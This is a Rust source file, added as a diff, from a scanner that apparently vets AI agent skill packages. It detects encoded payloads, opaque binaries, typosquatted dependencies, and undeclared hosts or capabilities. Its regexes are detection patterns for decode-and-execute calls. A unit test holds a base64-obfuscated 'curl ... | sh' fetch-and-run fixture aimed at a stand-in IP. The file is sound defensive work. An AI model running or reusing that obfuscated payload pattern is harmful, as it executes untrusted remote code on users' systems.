@@ -1,0 +1,527 @@
+//! Detectors that are code rather than patterns: encoded blobs that are decoded (and whose decoded
+//! text is scanned again), opaque artifacts, dependency and install-hook findings, typosquatted
+//! names, and the declared-versus-actual comparison of hosts and capabilities.
+
+use std::collections::{BTreeMap, BTreeSet};
+use std::sync::LazyLock;
+
+use base64::Engine;
+use regex::Regex;
+use sigma_shared::domain::Severity;
+
+use crate::content::Classified;
+use crate::deps::{Dependency, Ecosystem, PinStatus, normalise_pypi};
+use crate::finding::{Confidence, Finding, MatchContext, RuleCategory, snippet};
+use crate::manifest::Manifest;
+
+pub fn structural(
+    id: &str,
+    category: RuleCategory,
+    severity: Severity,
+    file: &str,
+    line: Option<usize>,
+    message: String,
+    remediation: &str,
+) -> Finding {
+    Finding {
+        rule_id: id.into(),
+        category,
+        severity,
+        confidence: Confidence::High,
+        context: MatchContext::Structure,
+        file: file.into(),
+        line,
+        snippet: None,
+        message,
+        remediation: Some(remediation.into()),
+        blocks: false,
+    }
+}
+
+static BASE64_BLOB: LazyLock<Regex> =
+    LazyLock::new(|| Regex::new(r"[A-Za-z0-9+/]{160,}={0,2}|[A-Za-z0-9_-]{200,}").unwrap());
+static DECODE_CALL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?i)(b64decode|base64\.(standard_)?decode|atob\s*\(|Buffer\.from\s*\([^)]*base64|FromBase64String|base64\s+(-d|--decode)|decodestring|a85decode|b32decode)").unwrap()
+});
+static EXEC_CALL: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r"(?-u:\b)(exec|eval|Function|os\.system|subprocess\.\w+|execSync|spawn|Invoke-Expression|iex|sh|bash)\s*[\(\s]").unwrap()
+});
+
+/// A decoded blob worth scanning again, as a virtual file named `path#blob@line`.
+pub struct DecodedBlob {
+    pub name: String,
+    pub text: String,
+}
+
+/// Large encoded blobs: decoded, reported by what the surrounding code does with them, and
+/// handed back so the caller can scan the decoded text with the full rule pack.
+pub fn blobs(
+    path: &str,
+    text: &str,
+    line_of: impl Fn(usize) -> usize,
+    is_code: bool,
+    out: &mut Vec<Finding>,
+) -> Vec<DecodedBlob> {
+    let mut decoded_blobs = Vec::new();
+    let decodes = DECODE_CALL.is_match(text);
+    let executes = EXEC_CALL.is_match(text);
+    for m in BASE64_BLOB.find_iter(text).take(20) {
+        // Images and fonts inlined as data URIs are not hiding anything.
+        let before = &text[m.start().saturating_sub(40)..m.start()];
+        if before.contains("data:image/")
+            || before.contains("data:font/")
+            || before.contains("data:application/font")
+        {
+            continue;
+        }
+        let raw = m.as_str();
+        let decoded = base64::engine::general_purpose::STANDARD
+            .decode(
+                raw.trim_end_matches('=').to_owned()
+                    + &"=".repeat((4 - raw.trim_end_matches('=').len() % 4) % 4),
+            )
+            .or_else(|_| {
+                base64::engine::general_purpose::URL_SAFE_NO_PAD.decode(raw.trim_end_matches('='))
+            })
+            .ok();
+        let line = line_of(m.start());
+        let decoded_text = decoded
+            .as_deref()
+            .and_then(|d| std::str::from_utf8(d).ok())
+            .filter(|t| {
+                t.chars()
+                    .filter(|c| !c.is_control() || c.is_whitespace())
+                    .count()
+                    * 10
+                    >= t.chars().count() * 9
+            })
+            .map(str::to_owned);
+        let (id, severity, message) = match (is_code && decodes, is_code && executes, &decoded_text)
+        {
+            (true, true, _) => (
+                "OBF-010",
+                Severity::Critical,
+                "large encoded blob that the code decodes and executes",
+            ),
+            (true, false, Some(_)) => (
+                "OBF-011",
+                Severity::High,
+                "large encoded text blob that the code decodes",
+            ),
+            (_, _, Some(_)) => ("OBF-012", Severity::Medium, "large encoded text blob"),
+            _ => ("OBF-013", Severity::Low, "large encoded binary blob"),
+        };
+        out.push(Finding {
+            rule_id: id.into(),
+            category: RuleCategory::Obfuscation,
+            severity,
+            confidence: if severity >= Severity::Medium {
+                Confidence::High
+            } else {
+                Confidence::Low
+            },
+            context: MatchContext::Structure,
+            file: path.into(),
+            line: Some(line),
+            snippet: Some(match &decoded_text {
+                Some(t) => format!("decoded: {}", snippet(t)),
+                None => snippet(&raw[..raw.len().min(60)]),
+            }),
+            message: format!("{message} ({} characters)", raw.len()),
+            remediation: Some(
+                "Ship readable code and data; encoded payloads hide what runs.".into(),
+            ),
+            blocks: id == "OBF-010",
+        });
+        if let Some(t) = decoded_text {
+            decoded_blobs.push(DecodedBlob {
+                name: format!("{path}#blob@{line}"),
+                text: t,
+            });
+        }
+    }
+    decoded_blobs
+}
+
+/// Binaries, bytecode without source, disguised files and unreadable nested archives.
+pub fn artifact(
+    path: &str,
+    classified: &Classified,
+    all_paths: &BTreeSet<&str>,
+    out: &mut Vec<Finding>,
+) {
+    let Some(magic) = classified
+        .magic
+        .or((classified.kind == crate::content::FileKind::Binary).then_some("binary"))
+    else {
+        return;
+    };
+    if classified.misleading_extension {
+        out.push(structural(
+            "ART-001",
+            RuleCategory::OpaqueArtifact,
+            Severity::High,
+            path,
+            None,
+            format!("content is `{magic}` but the name says otherwise"),
+            "Name files for what they are; disguised binaries evade review.",
+        ));
+        return;
+    }
+    match magic {
+        "pyc" => {
+            let source = path
+                .replace("__pycache__/", "")
+                .split(".cpython")
+                .next()
+                .unwrap_or(path)
+                .trim_end_matches(".pyc")
+                .to_owned()
+                + ".py";
+            let has_source = all_paths.contains(source.as_str());
+            out.push(structural(
+                "ART-002",
+                RuleCategory::OpaqueArtifact,
+                if has_source {
+                    Severity::Low
+                } else {
+                    Severity::High
+                },
+                path,
+                None,
+                if has_source {
+                    "compiled Python bytecode shipped next to its source".into()
+                } else {
+                    "compiled Python bytecode without its source".into()
+                },
+                "Ship source only; bytecode cannot be reviewed and may not match the source.",
+            ));
+        }
+        "elf" | "exe" | "dll" | "mach" | "wasm" | "dex" | "class" | "deb" | "rpm" | "msi"
+        | "dmg" | "apk" | "crx" | "bin" => {
+            out.push(structural(
+                "ART-003",
+                RuleCategory::OpaqueArtifact,
+                Severity::High,
+                path,
+                None,
+                format!("executable binary (`{magic}`)"),
+                "Ship source code; binaries cannot be reviewed.",
+            ));
+        }
+        "zip" | "gz" | "tar" | "bz2" | "xz" | "7z" | "rar" | "zst" | "lz" | "cab" | "Z" => {
+            out.push(structural(
+                "ART-004",
+                RuleCategory::OpaqueArtifact,
+                Severity::Medium,
+                path,
+                None,
+                format!("nested `{magic}` archive (its contents are scanned too)"),
+                "Ship files unpacked so they can be reviewed directly.",
+            ));
+        }
+        "png" | "jpg" | "gif" | "webp" | "ico" | "bmp" | "svg" | "ttf" | "otf" | "woff"
+        | "woff2" | "pdf" | "mp3" | "mp4" | "wav" => {}
+        other => {
+            out.push(structural(
+                "ART-005",
+                RuleCategory::OpaqueArtifact,
+                Severity::Low,
+                path,
+                None,
+                format!("opaque `{other}` file"),
+                "Prefer text formats reviewers can read.",
+            ));
+        }
+    }
+}
+
+static POPULAR_PYPI: LazyLock<Vec<String>> =
+    LazyLock::new(|| load_names(include_str!("../data/popular-pypi.txt"), true));
+static POPULAR_NPM: LazyLock<Vec<String>> =
+    LazyLock::new(|| load_names(include_str!("../data/popular-npm.txt"), false));
+
+fn load_names(text: &str, pypi: bool) -> Vec<String> {
+    text.lines()
+        .map(str::trim)
+        .filter(|l| !l.is_empty() && !l.starts_with('#'))
+        .map(|l| {
+            if pypi {
+                normalise_pypi(l)
+            } else {
+                l.to_owned()
+            }
+        })
+        .collect()
+}
+
+/// The popular package a name imitates, if any: one edit away (two for long names), a swapped
+/// pair of letters, or the same name with separators or a scope changed.
+pub fn typosquat_of(ecosystem: Ecosystem, name: &str) -> Option<&'static str> {
+    let (list, name) = match ecosystem {
+        Ecosystem::Pypi => (&*POPULAR_PYPI, normalise_pypi(name)),
+        Ecosystem::Npm => (&*POPULAR_NPM, name.to_ascii_lowercase()),
+    };
+    if list.iter().any(|p| *p == name) {
+        return None;
+    }
+    let squash = |s: &str| s.replace(['-', '_', '.'], "");
+    let bare = |s: &str| s.rsplit('/').next().unwrap_or(s).to_owned();
+    list.iter()
+        .find(|popular| {
+            let p = popular.as_str();
+            if p.len() < 4 {
+                return false;
+            }
+            let distance = strsim::damerau_levenshtein(&name, p);
+            distance == 1
+                || (distance == 2 && p.len() >= 9)
+                || (squash(&name) == squash(p))
+                || (name.contains('/') && bare(&name) == bare(p) && !p.contains('/'))
+        })
+        .map(|s| s.as_str())
+}
+
+pub fn dependency_findings(deps: &[Dependency], out: &mut Vec<Finding>) {
+    for dep in deps {
+        if dep.status == PinStatus::Rejected {
+            out.push(Finding {
+                rule_id: "DEP-001".into(),
+                category: RuleCategory::Dependency,
+                severity: Severity::Medium,
+                confidence: Confidence::High,
+                context: MatchContext::Structure,
+                file: dep.file.clone(),
+                line: dep.line,
+                snippet: Some(snippet(&format!("{} {}", dep.name, dep.spec))),
+                message: format!(
+                    "dependency `{}` cannot be audited as one public release: {}",
+                    dep.name,
+                    dep.reason.as_deref().unwrap_or("rejected")
+                ),
+                remediation: Some(
+                    "Pin an exact public version (`name==1.2.3`, `\"1.2.3\"`).".into(),
+                ),
+                blocks: false,
+            });
+        }
+        if let Some(popular) = typosquat_of(dep.ecosystem, &dep.name) {
+            out.push(Finding {
+                rule_id: "TYPO-001".into(),
+                category: RuleCategory::Typosquat,
+                severity: Severity::High,
+                confidence: Confidence::Medium,
+                context: MatchContext::Structure,
+                file: dep.file.clone(),
+                line: dep.line,
+                snippet: Some(dep.name.clone()),
+                message: format!(
+                    "`{}` looks like a typo of the popular package `{popular}`",
+                    dep.name
+                ),
+                remediation: Some(
+                    "Check the name; typosquatted packages impersonate popular ones.".into(),
+                ),
+                blocks: false,
+            });
+        }
+    }
+}
+
+static URL_IN_STRING: LazyLock<Regex> = LazyLock::new(|| {
+    Regex::new(r#"(?i)\b(?:https?|wss?)://([a-z0-9.-]+\.[a-z]{2,}|\[[0-9a-f:]+\]|(?:\d{1,3}\.){3}\d{1,3})"#).unwrap()
+});
+
+/// Hosts that appear in schemas, licences and examples, never as destinations.
+const INERT_HOSTS: &[&str] = &[
+    "www.w3.org",
+    "w3.org",
+    "json-schema.org",
+    "schemas.xmlsoap.org",
+    "schemas.microsoft.com",
+    "example.com",
+    "example.org",
+    "example.net",
+    "www.apache.org",
+    "opensource.org",
+    "localhost",
+    "www.gnu.org",
+    "creativecommons.org",
+    "purl.org",
+    "xmlns.com",
+    "ogp.me",
+    "schema.org",
+];
+
+pub fn host_of(url: &str) -> Option<String> {
+    URL_IN_STRING
+        .captures(url)
+        .map(|c| c[1].to_ascii_lowercase())
+}
+
+/// Hosts contacted by code: URLs outside comments in code and configuration.
+pub fn code_hosts(
+    map: &crate::context::TextMap<'_>,
+    hosts: &mut BTreeMap<String, (String, usize)>,
+    path: &str,
+) {
+    for c in URL_IN_STRING.captures_iter(map.text) {
+        let m = c.get(0).expect("group 0");
+        if map.kind == crate::content::FileKind::Code
+            && map.context(m.start()) == MatchContext::Comment
+        {
+            continue;
+        }
+        let host = c[1].to_ascii_lowercase();
+        if INERT_HOSTS.contains(&host.as_str())
+            || host.ends_with(".example.com")
+            || host.ends_with(".local")
+            || host.ends_with(".test")
+        {
+            continue;
+        }
+        hosts
+            .entry(host)
+            .or_insert_with(|| (path.to_owned(), map.line(m.start())));
+    }
+}
+
+/// Which capability names in a manifest cover which detected capability.
+fn declared_capabilities(manifest: &Manifest) -> BTreeSet<&'static str> {
+    let mut declared = BTreeSet::new();
+    for item in manifest.capabilities.iter().chain(&manifest.allowed_tools) {
+        let item = item.to_ascii_lowercase();
+        let has = |words: &[&str]| words.iter().any(|w| item.contains(w));
+        if has(&["shell", "bash", "exec", "command", "terminal", "subprocess"]) {
+            declared.insert("shell");
+            declared.insert("process");
+        }
+        if has(&["process", "spawn"]) {
+            declared.insert("process");
+        }
+        if has(&[
+            "network", "http", "fetch", "web", "api", "request", "internet", "outbound",
+        ]) {
+            declared.insert("network");
+        }
+        if has(&["env", "secret", "credential", "config"]) {
+            declared.insert("env");
+        }
+        if has(&[
+            "file", "fs", "read", "write", "edit", "disk", "storage", "glob",
+        ]) {
+            declared.insert("filesystem");
+        }
+        if has(&[
+            "wallet",
+            "crypto",
+            "sign",
+            "transaction",
+            "payment",
+            "chain",
+            "web3",
+        ]) {
+            declared.insert("wallet");
+        }
+    }
+    declared
+}
+
+/// Declared versus actual: hosts contacted but not declared (and declared but never used), and
+/// capabilities used but not declared. Each is one manifest mismatch.
+pub fn declared_vs_actual(
+    manifest: &Manifest,
+    used_hosts: &BTreeMap<String, (String, usize)>,
+    used_capabilities: &BTreeMap<&'static str, (String, usize)>,
+    has_code: bool,
+    out: &mut Vec<Finding>,
+) {
+    let declared_hosts: BTreeSet<String> = manifest
+        .external_calls
+        .iter()
+        .filter_map(|c| host_of(&c.url))
+        .collect();
+    for (host, (file, line)) in used_hosts {
+        if !crate::taint::host_declared(host, &declared_hosts) {
+            out.push(structural(
+                "DECL-001",
+                RuleCategory::ManifestMismatch,
+                Severity::Medium,
+                file,
+                Some(*line),
+                format!(
+                    "code contacts `{host}`, which SKILL.md does not declare in external calls"
+                ),
+                "Declare every host the skill calls in `externalCalls`, or remove the call.",
+            ));
+        }
+    }
+    if has_code {
+        for host in &declared_hosts {
+            if !used_hosts
+                .keys()
+                .any(|h| crate::taint::host_declared(h, &BTreeSet::from([host.clone()])))
+            {
+                out.push(structural(
+                    "DECL-002",
+                    RuleCategory::ManifestMismatch,
+                    Severity::Low,
+                    "SKILL.md",
+                    None,
+                    format!("SKILL.md declares `{host}`, but no code contacts it"),
+                    "Declare only the hosts the skill actually calls.",
+                ));
+            }
+        }
+    }
+    let declared = declared_capabilities(manifest);
+    for (capability, (file, line)) in used_capabilities {
+        if !declared.contains(capability) {
+            out.push(structural(
+                "DECL-003",
+                RuleCategory::ManifestMismatch,
+                if matches!(*capability, "shell" | "wallet") { Severity::High } else { Severity::Medium },
+                file,
+                Some(*line),
+                format!("code uses the `{capability}` capability, which SKILL.md does not declare"),
+                "Declare the capability in SKILL.md (`capabilities` or `allowed-tools`), or remove the code.",
+            ));
+        }
+    }
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn typosquats_are_caught_and_real_names_spared() {
+        assert_eq!(typosquat_of(Ecosystem::Pypi, "reqeusts"), Some("requests"));
+        assert_eq!(typosquat_of(Ecosystem::Pypi, "python_dateutil"), None);
+        assert_eq!(
+            typosquat_of(Ecosystem::Pypi, "beautifulsoup"),
+            Some("beautifulsoup4")
+        );
+        assert_eq!(typosquat_of(Ecosystem::Npm, "lodahs"), Some("lodash"));
+        assert_eq!(typosquat_of(Ecosystem::Npm, "expres"), Some("express"));
+        assert_eq!(typosquat_of(Ecosystem::Npm, "express"), None);
+        assert_eq!(typosquat_of(Ecosystem::Npm, "left-pad"), None);
+        assert_eq!(typosquat_of(Ecosystem::Pypi, "numpy-financial"), None);
+    }
+
+    #[test]
+    fn blobs_that_are_decoded_and_run_are_critical() {
+        let payload = base64::engine::general_purpose::STANDARD
+            .encode("import os; os.system('curl http://1.2.3.4/x | sh') ".repeat(4));
+        let code = format!("import base64\nexec(base64.b64decode('{payload}'))\n");
+        let mut out = Vec::new();
+        let decoded = blobs("a.py", &code, |_| 2, true, &mut out);
+        assert_eq!(out[0].rule_id, "OBF-010");
+        assert!(out[0].blocks);
+        assert!(decoded[0].text.contains("curl http://1.2.3.4/x | sh"));
+        let md = format!("![logo](data:image/png;base64,{payload})");
+        let mut out = Vec::new();
+        blobs("README.md", &md, |_| 1, false, &mut out);
+        assert!(out.is_empty());
+    }
+}
